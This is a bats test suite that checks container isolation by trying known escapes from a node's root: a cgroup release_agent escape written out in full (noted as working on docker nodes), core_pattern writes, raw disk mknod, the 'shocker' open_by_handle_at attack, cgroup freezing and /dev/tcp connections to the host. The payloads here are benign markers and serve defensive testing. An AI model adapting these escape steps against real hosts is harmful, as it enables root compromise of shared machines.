#!/usr/bin/env bats
# From a node's root, the known ways out of a container. On an LXC node (the default provider)
# each one is refused, and the host checks that nothing of it reached the host: a marker file the
# host would see, the host's disk, kernel settings and clock, another node's cgroup. Every try is
# harmless even if it worked: it touches only a marker, opens a kernel setting for writing without
# writing, only reads, sets the clock to the second it shows, signals with 0.
# On a docker node only the release_agent escape runs (it touches a marker and nothing else of the
# host): there it works, which is why the default provider is no longer docker.

load ../helpers

setup_file() { stack_ready "$NODE"; }

PROVIDER_OF=$(node_provider "$NODE")

setup() {
  [[ -n $PROVIDER_OF ]] || skip "node $NODE is not created (make up NODE=$NODE)"
}

teardown() {
  rm -f "$BATS_TEST_TMPDIR/escaped"
}

lxc_only() {
  [[ $PROVIDER_OF == lxc ]] ||
    skip "a $PROVIDER_OF node's root is the host's root by construction (all capabilities, no user namespace): only the release_agent escape is shown there"
}

# The node's side of the release_agent escape (a bash snippet; its variables are the node's). A
# cgroup v1 hierarchy of the node's own making, under a new name (never one the host uses: its
# release_agent is a kernel setting of the host) gets, as its release_agent, a script of the node whose path on the
# host is read from the node's mount table as an attacker would (an overlay's upper folder, else
# the root mount's own root); emptying a cgroup of it makes the host's kernel run the script, as
# root on the host. The script only touches the marker.
release_agent_escape() {
  cat <<EOF
mark='$1' name=prov_e2e_$RANDOM
host_root=\$(sed -n 's|^[^ ]* [^ ]* [^ ]* [^ ]* / .*upperdir=\([^,]*\).*|\1|p' /proc/self/mountinfo | head -n 1)
[ -n "\$host_root" ] || host_root=\$(awk '\$5 == "/" { print \$4; exit }' /proc/self/mountinfo)
host_root=\${host_root%/}
printf '#!/bin/sh\ntouch %s\n' "\$mark" >/prov-e2e-agent.sh && chmod 0755 /prov-e2e-agent.sh
echo "the node's root is \${host_root:-/} on the host"
dir=\$(mktemp -d)
if mount -t cgroup -o "none,name=\$name" cgroup "\$dir" 2>"\$dir.err"; then
  echo "mount name=\$name: mounted"
  if (echo "\$host_root/prov-e2e-agent.sh" >"\$dir/release_agent") 2>"\$dir.err"; then
    echo "release_agent set"
    mkdir "\$dir/x" && echo 1 >"\$dir/x/notify_on_release"
    sh -c "echo \\\$\\\$ >'\$dir/x/cgroup.procs'"
    sleep 1
    rmdir "\$dir/x"
  else
    echo "release_agent: refused (\$(cat "\$dir.err"))"
  fi
  umount "\$dir"
else
  echo "mount name=\$name: refused (\$(cat "\$dir.err"))"
fi
# The hierarchies the node has: no release_agent where the node can see it.
for agent in /sys/fs/cgroup/*/release_agent; do
  [ ! -e "\$agent" ] || echo "visible: \$agent"
done
rm -rf "\$dir" "\$dir.err" /prov-e2e-agent.sh
EOF
}

@test "(a) a cgroup release_agent set by the node's root: never run by the host from an LXC node (run as root, from a docker node)" {
  mark="$BATS_TEST_TMPDIR/escaped"
  run root_on "$NODE" "$(release_agent_escape "$mark")"
  echo "$output"
  if [[ $PROVIDER_OF == docker ]]; then
    # The host's kernel runs the node's script, as root on the host.
    assert_output_has "release_agent set"
    eventually 10 "test -e '$mark'"
    return 0
  fi
  [ "$status" -eq 0 ]
  # A hierarchy the host's kernel has already (another test's, say) may be mounted; a new one may
  # not, and a release_agent may never be set.
  [[ $output =~ mount\ name=prov_e2e_[0-9]+:\ refused || $output == *"release_agent: refused"* ]]
  [[ $output != *"release_agent set"* && $output != *"visible:"* ]]
  sleep 2
  [ ! -e "$mark" ]
}

@test "(b) the host's core_pattern cannot even be opened for writing" {
  lxc_only
  before=$(cat /proc/sys/kernel/core_pattern)
  # shellcheck disable=SC2016
  run root_on "$NODE" 'if (exec 3>/proc/sys/kernel/core_pattern) 2>/tmp/prov-e2e.err; then
      echo "core_pattern: opened for writing"
    else echo "core_pattern: refused ($(cat /tmp/prov-e2e.err))"; fi; rm -f /tmp/prov-e2e.err'
  echo "$output"
  assert_output_has "core_pattern: refused"
  [ "$(cat /proc/sys/kernel/core_pattern)" = "$before" ]
}

@test "(c) the node cannot make a device node of the host's disk, and reads none of it" {
  lxc_only
  disk=$(findmnt -no SOURCE /)
  [[ -b $disk ]] || skip "the host's root filesystem is not on a block device ($disk)"
  majmin=$(findmnt -no MAJ:MIN /)
  # What the node would read if it could (when the host itself may read its disk: some sandboxes
  # do not let even the host's root).
  host_sum=
  if head -c 4096 "$disk" >"$BATS_TEST_TMPDIR/disk" 2>/dev/null; then
    host_sum=$(sha256sum <"$BATS_TEST_TMPDIR/disk" | cut -d' ' -f1)
  fi
  run root_on "$NODE" "if mknod /tmp/prov-e2e-disk b ${majmin/:/ } 2>/tmp/prov-e2e.err; then
      echo \"mknod: made\"; head -c 4096 /tmp/prov-e2e-disk | sha256sum
    else echo \"mknod: refused (\$(cat /tmp/prov-e2e.err))\"; fi
    rm -f /tmp/prov-e2e-disk /tmp/prov-e2e.err
    echo \"block devices: \$(find /dev -type b | wc -l)\""
  echo "$output"
  assert_output_has "mknod: refused"
  assert_output_has "block devices: 0"
  [[ -z $host_sum || $output != *"$host_sum"* ]]
}

@test "(d) open_by_handle_at (shocker) opens nothing of the host, from any file the node has" {
  lxc_only
  cc -static -O2 -o "$BATS_TEST_TMPDIR/open-by-handle" "$REPO/tests/e2e/escape/open-by-handle.c"
  prov exec --node "$NODE" -- sudo -n sh -c 'cat >/tmp/prov-e2e-obh && chmod 0755 /tmp/prov-e2e-obh' \
    <"$BATS_TEST_TMPDIR/open-by-handle"
  # Files that could be on one of the host's filesystems: what a container runtime binds in, LXC's
  # device nodes, the kernel's pstore.
  run root_on "$NODE" '/tmp/prov-e2e-obh / /vagrant /etc/hosts /etc/hostname /etc/resolv.conf \
    /dev/null /dev/zero /dev/pts/ptmx /sys/fs/pstore /proc/sys/kernel/random/boot_id; \
    rm -f /tmp/prov-e2e-obh'
  echo "$output"
  [ "$status" -eq 0 ]
  assert_output_has "/etc/hosts: refused"
  assert_output_has "/dev/null: refused"
  [[ $output != *OPENED* ]]
}

@test "(e) the node cannot set the clock, not even to the second it shows" {
  lxc_only
  # shellcheck disable=SC2016
  run root_on "$NODE" 'date -s "@$(date +%s)"'
  echo "$output"
  [ "$status" -ne 0 ]
  assert_output_has "cannot set date: Operation not permitted"
}

@test "(f) another node's cgroup is neither visible nor writable: it cannot be frozen or signalled" {
  lxc_only
  other=
  for candidate in $(prov nodes); do
    if [[ $candidate != "$NODE" && $(node_provider "$candidate") == lxc &&
      $(lxc-info -n "$(lxc_container "$candidate")" -sH) == RUNNING ]]; then
      other=$candidate
      break
    fi
  done
  [[ -n $other ]] || skip "needs a second running LXC node (make up NODE=<another>)"
  container=$(lxc_container "$other")
  pid=$(lxc-info -n "$container" -pH)
  started=$(cut -d' ' -f22 "/proc/$pid/stat")
  # Its state as LXC reads it, wherever this machine's cgroups put the node (a machine that is
  # itself a container has them deeper than the root).
  [ "$(lxc-info -n "$container" -sH)" = RUNNING ]
  # From the node: the other node's cgroup, under every cgroup tree the node has or can mount
  # (a fresh mount shows the node's own cgroup as its root); its init, by the host's pid.
  run root_on "$NODE" "found=\$(find /sys/fs/cgroup -maxdepth 3 -name '*$container*' 2>/dev/null)
    echo \"the other node's cgroup: \${found:-not visible}\"
    dir=\$(mktemp -d)
    if mount -t cgroup -o freezer cgroup \"\$dir\" 2>/dev/null; then
      echo \"a fresh freezer mount shows: \$(find \"\$dir\" -name '*$container*' | wc -l) of it\"
      umount \"\$dir\"
    fi
    rmdir \"\$dir\"
    for state in FROZEN:/sys/fs/cgroup/freezer/lxc.payload.$container/freezer.state \
      FROZEN:/sys/fs/cgroup/freezer/../lxc.payload.$container/freezer.state \
      1:/sys/fs/cgroup/lxc.payload.$container/cgroup.freeze; do
      if echo \${state%%:*} >\"\${state#*:}\" 2>/dev/null; then echo \"froze \${state#*:}\"
      else echo \"freeze refused: \${state#*:}\"; fi
    done
    if kill -0 $pid 2>/dev/null; then
      echo \"pid $pid in the node started at \$(cut -d' ' -f22 /proc/$pid/stat)\"
    else echo \"signal refused: no process $pid\"; fi"
  echo "$output"
  assert_output_has "the other node's cgroup: not visible"
  assert_output_has "freeze refused"
  [[ $output != *froze* && $output != *"started at $started"* ]]
  [ "$(lxc-info -n "$container" -sH)" = RUNNING ]
}

@test "(g) the node cannot open a connection to the host, even to a service listening on the node's bridge" {
  lxc_only
  host=$(sed -n 's/^subnet=//p' "$STATE_DIR/lxc/network").1
  port=$((20000 + RANDOM % 10000))
  nc -l "$host" "$port" >"$BATS_TEST_TMPDIR/received" &
  listener=$!
  sleep 0.5
  kill -0 "$listener"
  run root_on "$NODE" "timeout 5 bash -c 'echo from-the-node >/dev/tcp/$host/$port' && echo connected || echo refused"
  echo "$output"
  # The listener was there: the host reaches it (and it ends with that one connection).
  echo from-the-host >"/dev/tcp/$host/$port"
  wait "$listener" || true
  assert_output_has refused
  [ "$(cat "$BATS_TEST_TMPDIR/received")" = from-the-host ]
}
